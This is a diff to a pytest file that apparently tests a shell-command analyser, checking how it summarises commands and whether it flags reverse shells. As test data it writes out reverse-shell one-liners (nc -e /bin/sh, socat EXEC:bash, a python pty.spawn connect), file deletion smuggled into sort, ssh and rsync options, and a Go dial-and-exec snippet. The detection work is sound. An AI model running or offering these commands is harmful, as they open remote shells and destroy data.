@@ -30,10 +30,25 @@ import pytest
     ("sort --compress-program='rm -r ~/x' f", ['sort R:./f', 'rm D:~/x']),
     ("ssh -o ProxyCommand='rm -r ~/x' host", ['rm D:~/x', 'ssh H:host']),
     ('rsync -e \'sh -c "rm -r ~/x"\' a host:b', ['rsync R:./a H:host', 'rm D:~/x']),
-    ('nc -e /bin/sh 10.0.0.1 4444', ['nc H:10.0.0.1', 'sh']),
+    ('nc -e /bin/sh 10.0.0.1 4444', ['nc H:10.0.0.1 <download', 'sh']),
     ("echo 'rm -r ~/x' | at now", ['echo', 'at', 'rm D:~/x &']),
     ('make', ['make']),
     ('npm test', ['npm']),
 ])
 def test_commands_inside_programs(brief, command, expected):
     assert brief(command) == expected
+
+
+@pytest.mark.parametrize(("command", "marked"), [
+    ("nc -e /bin/sh a.example 1", True), ("socat TCP:a.example:1 EXEC:bash", True), ("socat TCP-LISTEN:1 SHELL", True), ("socket -qvp 'sh -i' a.example 1", True),
+    ("python3 -c 'import socket,pty;s=socket.socket();s.connect((\"a.example\",1));pty.spawn(\"/bin/sh\")'", True),
+    ("nc -e ./handler a.example 1", False), ("socat TCP:a.example:1 EXEC:./serve", False), ("nc a.example 1", False), ("python3 -c 'import socket; socket.create_connection((\"a.example\",1))'", False),
+])
+def test_connections_tied_to_a_shell_bear_a_flag(effects_of, command, marked):
+    assert any("reverse-shell" in effect.flags for effect in effects_of(command).effects) is marked
+
+
+def test_code_written_and_then_run_is_read(brief, flows):
+    command = """echo 'net.Dial("tcp","10.0.0.1:1"); exec.Command("/bin/sh")' > t.go; go run t.go"""
+    assert brief(command)[-1] == "go <download <just_written" and flows(command) == ["download>interpreter"]
+    assert brief("go run main.go") == ["go <local_file"] and brief("go test ./...") == ["go"]
